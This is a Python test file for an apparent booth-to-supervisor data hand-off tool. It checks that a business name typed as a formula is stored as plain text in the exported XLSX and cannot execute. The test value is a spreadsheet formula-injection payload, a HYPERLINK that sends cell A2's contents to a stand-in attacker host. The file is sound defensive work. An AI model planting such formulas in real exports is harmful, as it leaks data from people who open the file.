"""A business name typed at the booth as a formula stays text in the hand-off XLSX (issue 17's one
XLSX writer): openpyxl, the writer before it, stored any text starting with "=" as a
formula, so a supervisor opening the file would run it. On SQLite and PostgreSQL."""

from __future__ import annotations

from pathlib import Path

from handoff_support import Laptop
from openpyxl import load_workbook

from outreach_tui.domain.handoff_mapping import load_handoff_mapping
from outreach_tui.hub.handoff import hand_off
from outreach_tui.hub.storage import open_storage

TYPED = '=HYPERLINK("http://evil.example/?"&A2,"Siti")'


def test_a_formula_typed_as_a_business_name_is_handed_off_as_text(db: str, tmp_path: Path) -> None:
    mapping = load_handoff_mapping()
    with open_storage(db) as storage:
        Laptop(storage).register(business_name=TYPED)
        hand_off(storage, mapping, tmp_path / "h.xlsx", fmt="xlsx")
    sheet = load_workbook(tmp_path / "h.xlsx").worksheets[0]
    column = list(mapping.titles).index("Nama Usaha") + 1
    cell = sheet.cell(2, column)
    assert cell.value == TYPED and cell.data_type == "s"  # text, not a formula
